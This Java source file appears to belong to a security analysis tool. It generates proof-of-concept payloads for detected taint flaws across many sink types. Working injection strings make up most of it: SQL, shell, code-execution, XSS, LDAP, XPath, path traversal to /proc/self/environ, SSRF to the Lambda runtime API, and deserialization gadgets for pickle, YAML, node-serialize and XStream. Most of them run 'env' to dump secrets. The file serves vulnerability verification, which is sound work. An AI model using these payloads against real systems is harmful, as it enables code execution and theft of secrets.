package dev.merlon.analysis.taint;

import dev.merlon.code.ir.Language;
import dev.merlon.knowledge.SinkKind;

/// What to send to show a flaw: text that does something else than the program meant, and that the
/// trigger can carry.
///
/// @param field the field that carries it
/// @param call the library call that is the sink
/// @param shape the text around the data, with `\u0000` where it stands
record Payload(EventPath field, SinkKind sink, String call, String shape, Language language) {

  String text() {
    String text = text(before());
    // Cognito's names have no blanks: `[\p{L}\p{M}\p{S}\p{N}\p{P}]+` in its API reference.
    return field.keys().equals(java.util.List.of("userName")) ? withoutBlanks(text) : text;
  }

  private String withoutBlanks(String text) {
    return sink == SinkKind.SQL ? text.replace(" ", "/**/") : text.replace(" ", "");
  }

  private char before() {
    int at = shape.indexOf('\u0000');
    return at > 0 ? shape.charAt(at - 1) : ' ';
  }

  private boolean isPart() {
    return shape.indexOf('\u0000') >= 0;
  }

  private String text(char before) {
    return switch (sink) {
      case SQL -> sql(before);
      case COMMAND -> before == '\'' ? "x'; env; '" : before == '"' ? "x\"; env; \"" : "x; env";
      case CODE ->
          switch (language) {
            case PYTHON -> "__import__('os').popen('env').read()";
            case JAVASCRIPT, TYPESCRIPT ->
                "process.mainModule.require('child_process').execSync('env').toString()";
            case JAVA ->
                call.contains("spel") || call.contains("expression")
                    ? "T(java.lang.Runtime).getRuntime().exec('env')"
                    : "java.lang.Runtime.getRuntime().exec('env')";
            // Programs of Go run no texts; what they interpret are templates.
            case GO -> "{{printf \"%+v\" .}}";
            case RUBY -> "`env`";
            case CSHARP -> "System.Diagnostics.Process.Start(\"env\")";
          };
      case HTML -> html(before);
      case LDAP -> isPart() ? "*)(objectClass=*" : "(objectClass=*)";
      case XPATH -> before == '"' ? "x\" or \"1\"=\"1" : before == '\'' ? "x' or '1'='1" : "//*";
      case SESSION -> "administrator";
      case PATH -> "../../../../proc/self/environ";
      // Behind a host, `@` makes what stood before a user name.
      case REQUEST ->
          (shape.indexOf('\u0000') > 0 ? "@" : "http://")
              + "127.0.0.1:9001/2018-06-01/runtime/invocation/next";
      case DESERIALIZATION ->
          switch (language) {
            case PYTHON -> pythonObject();
            case JAVASCRIPT, TYPESCRIPT, GO -> javaScriptObject();
            case JAVA -> javaObject();
            case RUBY -> rubyObject();
            case CSHARP -> csharpObject();
          };
      case RESOURCE, NOSQL, TEMPLATE, XML, REDIRECT, PATTERN, PROTOTYPE, PROMPT ->
          OtherPayloads.text(this);
    };
  }

  // Inside an attribute, the quote must be closed first.
  private String html(char before) {
    int at = shape.indexOf('\u0000');
    boolean isInAttribute =
        at > 1 && shape.charAt(at - 2) == '=' && (before == '"' || before == '\'');
    return (isInAttribute ? before + ">" : "") + "<script>alert(document.domain)</script>";
  }

  private String sql(char before) {
    if (!isPart()) {
      return "SELECT * FROM users";
    }
    return switch (before) {
      case '\'' -> "x' OR '1'='1";
      case '"' -> "x\" OR \"1\"=\"1";
      case '%' -> "%' OR '1'='1";
      default -> "0 OR 1=1";
    };
  }

  private String pythonObject() {
    if (call.startsWith("yaml.")) {
      return "!!python/object/apply:os.system ['env']";
    }
    if (call.startsWith("jsonpickle.")) {
      return "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"env\"]}]}";
    }
    // Protocol 0, which is plain text: the function `os.system`, a mark, the text, a tuple, a call.
    return "cos\nsystem\n(S'env'\ntR.";
  }

  // SnakeYAML makes objects of any class; XStream those that it finds in the text. The head of a
  // serialized object (Java Object Serialization Specification, 6.4.2) stands for one.
  private String javaObject() {
    if (call.contains("yaml")) {
      return "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
          + " [[!!java.net.URL [\"http://127.0.0.1/\"]]]]";
    }
    return call.contains("xstream")
        ? "<java.lang.ProcessBuilder><command><string>env</string></command></java.lang.ProcessBuilder>"
        : "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashSet";
  }

  // YAML makes objects of any class; the head of what Marshal writes (version 4.8) stands for one.
  private String rubyObject() {
    return call.startsWith("YAML") || call.startsWith("Psych")
        ? "--- !ruby/object:Gem::Installer\ni: x"
        : "\u0004\bo:\u0011Gem::Installer\u0000";
  }

  // JSON names the type that it makes; other formats do so in bytes, of which the head stands here.
  private String csharpObject() {
    return call.contains("Json")
        ? "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}"
        : "AAEAAAD/////";
  }

  // The name of the field that holds the function is of no account.
  private String javaScriptObject() {
    return call.startsWith("js-yaml.")
        ? "!!js/function 'function () { " + RUN + " }'"
        : call.startsWith("funcster.")
            ? "{\"x\":{\"__js_function\":\"function () { " + RUN + " }()\"}}"
            : "{\"x\":\"" + javaScriptFunction() + "\"}";
  }

  private static final String RUN = "require('child_process').execSync('env')";

  /// What node-serialize runs when it stands in a field of an object.
  static String javaScriptFunction() {
    return "_$$ND_FUNC$$_function () { " + RUN + " }()";
  }

  /// The text for a field of an object that is itself restored.
  String ofField() {
    boolean isScript = language == Language.JAVASCRIPT || language == Language.TYPESCRIPT;
    return sink == SinkKind.DESERIALIZATION && isScript ? javaScriptFunction() : text();
  }
}
